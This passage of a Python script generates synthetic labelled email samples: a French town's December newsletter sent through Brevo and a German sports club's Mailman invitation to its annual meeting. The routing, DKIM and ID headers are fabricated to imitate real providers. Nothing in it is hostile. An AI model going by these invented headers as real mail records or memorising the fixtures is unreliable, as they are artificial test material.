Mairie de Kervalen – 1 place de la Mairie – www.ville-kervalen.fr
Vous recevez cette lettre car vous vous êtes inscrit sur le site de la commune.
Se désinscrire : {unsub}
"""
    html = f"""<html><body style="margin:0;background:#eef2f5;font-family:Arial,sans-serif">
<table width="600" align="center" style="background:#fff" cellpadding="0" cellspacing="0">
<tr><td style="background:#1b5e7a;color:#fff;padding:18px 22px;font-size:22px"><b>Kervalen Infos</b> <span style="font-size:14px">– décembre 2024</span></td></tr>
<tr><td style="padding:20px 22px;font-size:14px;color:#222;line-height:1.5">
<h3 style="color:#1b5e7a">Travaux rue de la Gare</h3>
<p>La circulation sera alternée du 2 au 13 décembre pour le remplacement de la conduite d'eau potable. <a href="{links['travaux']}">Détails</a></p>
<h3 style="color:#1b5e7a">Marché de Noël</h3>
<p>Samedi 14 et dimanche 15 décembre sur la place de l'Église : 40 exposants, balade en calèche et venue du Père Noël dimanche à 15h. <a href="{links['noel']}">Programme</a></p>
<h3 style="color:#1b5e7a">Conseil municipal</h3>
<p>Prochaine séance le jeudi 19 décembre à 20h en mairie, séance publique. <a href="{links['conseil']}">Ordre du jour</a></p>
<p>Horaires de la mairie pendant les fêtes : fermeture les 24 et 31 décembre après-midi.</p>
</td></tr>
<tr><td style="padding:14px 22px;background:#f4f6f8;font-size:11px;color:#666">Mairie de Kervalen – 1 place de la Mairie – <a href="{links['site']}" style="color:#666">www.ville-kervalen.fr</a><br>
Vous recevez cette lettre car vous vous êtes inscrit sur le site de la commune. <a href="{unsub}" style="color:#666">Se désinscrire</a></td></tr>
</table><img width="1" height="1" src="https://{hexid(name, 'r', 6)}.r.sp1-brevo.net/mk/op/{b64(name, 'open', 40).replace('/', '_').replace('+', '-')}" alt=""></body></html>
"""
    headers = [
        f"From: {addr('Mairie de Kervalen', 'communication@' + dom)}",
        f"To: {rcpt}",
        f"Subject: {enc('Kervalen Infos – décembre 2024', 'Q')}",
        f"Date: {rfc(sent)}",
        f"List-Unsubscribe: <{unsub}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Message-Id: <{uuid(name, 'mid')}@smtp-relay.mailin.fr>",
        "X-Mailer: Brevo",
        f"X-sib-id: {b64(name, 'sibid', 60).replace('=', '')}",
        f"Feedback-ID: 77.32.148.{hop.ip.rsplit('.', 1)[1]}:{digits(name, 'fb', 7)}_{digits(name, 'fb3', 2)}:{digits(name, 'fb2', 7)}:Sendinblue",
        "X-CSA-Complaints: csa-complaints@eco.de",
        "Precedence: bulk",
    ]
    return assemble(name, "orange", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-tsv-vereinsmitteilung-mailman.eml",
        "A German sports club's chairman posts the AGM invitation and kit-sale notice to the members' Mailman list on "
        "the club's own server (IONOS); List-Id, List-Unsubscribe and the list footer are present, DKIM/SPF/DMARC pass "
        "for tsv-gruenwald-ost.de, delivered to a web.de member")
def _(name):
    sent = when("Sun, 26 Jan 2025 17:48:30 +0100")
    rcpt = "lena.voigt@web.de"
    dom = "tsv-gruenwald-ost.de"
    lists = f"lists.{dom}"
    hop = Hop(lists, "217.160.44.118")
    env = f"mitglieder-bounces+{rcpt.replace('@', '=')}@{lists}"
    a = Auth(env, dom, "pass", "pass", dom, "dkim2024", "pass", "quarantine")
    route = [
        dkim(name, dom, "dkim2024", sent, "Content-Transfer-Encoding:Content-Type:\n\tSubject:From:To:MIME-Version:Date:Message-ID:Sender:Reply-To:Cc:Content-ID:\n\tContent-Description:List-Id:List-Help:List-Unsubscribe:List-Subscribe:List-Post:\n\tList-Owner:List-Archive"),
        f"Received: from {lists} (localhost [127.0.0.1])\n\tby {lists} (Postfix) with ESMTP id {hexid(name, 'lp', 10, True)};\n\t{rfc1(later(sent, 20), '+0100', 'CET')}",
        f"Received: from [192.168.178.{30 + int(hexid(name, 'lan', 1), 16)}] (p5b{hexid(name, 'dsl', 6)}.dip0.t-ipconnect.de [91.{int(hexid(name, 'ip1', 2), 16) % 250}.{int(hexid(name, 'ip2', 2), 16) % 250}.{int(hexid(name, 'ip3', 2), 16) % 250}])\n"
        f"\t(Authenticated sender: vorstand@{dom})\n\tby {lists} (Postfix) with ESMTPSA id {hexid(name, 'lp2', 10, True)}\n"
        f"\tfor <mitglieder@{lists}>; {rfc1(sent, '+0100', 'CET')}",
    ]
    plain = """Liebe Mitglieder,

hiermit lade ich euch herzlich zur ordentlichen Mitgliederversammlung 2025 ein:

Freitag, 21. Februar 2025, 19:30 Uhr, Vereinsheim am Sportplatz Ostring

Tagesordnung:
1. Begrüßung und Feststellung der Beschlussfähigkeit
2. Berichte des Vorstands und der Abteilungen
3. Kassenbericht und Bericht der Kassenprüfer
4. Entlastung des Vorstands
5. Wahlen (2. Vorsitz, Jugendwart)
6. Beitragsanpassung Jugendabteilung ab 2026
7. Verschiedenes

Anträge bitte bis zum 7. Februar schriftlich an den Vorstand.

Außerdem: Der Trikot- und Trainingsanzug-Verkauf für die Jugend findet am Samstag, 8. Februar, von 10 bis
12 Uhr im Vereinsheim statt. Bezahlt wird vor Ort bar oder mit Karte.

Sportliche Grüße
Jürgen Wehner
1. Vorsitzender TSV Grünwald-Ost 1921 e.V.
"""
    footer = f"""
_______________________________________________
Mitglieder mailing list -- mitglieder@{lists}
To unsubscribe send an email to mitglieder-leave@{lists}
"""
    headers = [
        f"Message-ID: <{uuid(name, 'mid')}@{dom}>",
        f"Date: {rfc(sent)}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: de-DE",
        f"To: mitglieder@{lists}",
        f"From: {addr('Jürgen Wehner (TSV Grünwald-Ost)', 'vorstand@' + dom)}",
        f"Subject: {enc('[TSV-Mitglieder] Einladung zur Mitgliederversammlung 2025 / Trikotverkauf', 'Q')}",
        f"Message-ID-Hash: {alnum(name, 'mih', 32, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}",
        f"X-Message-ID-Hash: {alnum(name, 'mih', 32, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}",
        f"X-MailFrom: vorstand@{dom}",
        "X-Mailman-Rule-Misses: dmarc-mitigation; no-senders; approved; emergency; loop; banned-address; member-moderation; "
        "header-match-config-1; nonmember-moderation; administrivia; implicit-dest; max-recipients; max-size; news-moderation; "
        "no-subject; digests; suspicious-header",
        "X-Mailman-Version: 3.3.8",
        "Precedence: list",
        f"List-Id: Mitglieder TSV =?utf-8?q?Gr=C3=BCnwald-Ost?= <mitglieder.{lists}>",
        f"Archived-At: <https://{lists}/hyperkitty/list/mitglieder@{lists}/message/{alnum(name, 'mih', 32, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}/>",
        f"List-Archive: <https://{lists}/hyperkitty/list/mitglieder@{lists}/>",
        f"List-Help: <mailto:mitglieder-request@{lists}?subject=help>",
        f"List-Owner: <mailto:mitglieder-owner@{lists}>",
        f"List-Post: <mailto:mitglieder@{lists}>",
        f"List-Subscribe: <mailto:mitglieder-join@{lists}>",
        f"List-Unsubscribe: <mailto:mitglieder-leave@{lists}>",
    ]
    body = text(plain + footer, encoding="8bit")
    return assemble(name, "webde", rcpt, later(sent, 24), hop, a, route, headers, body)


if __name__ == "__main__":
    main()
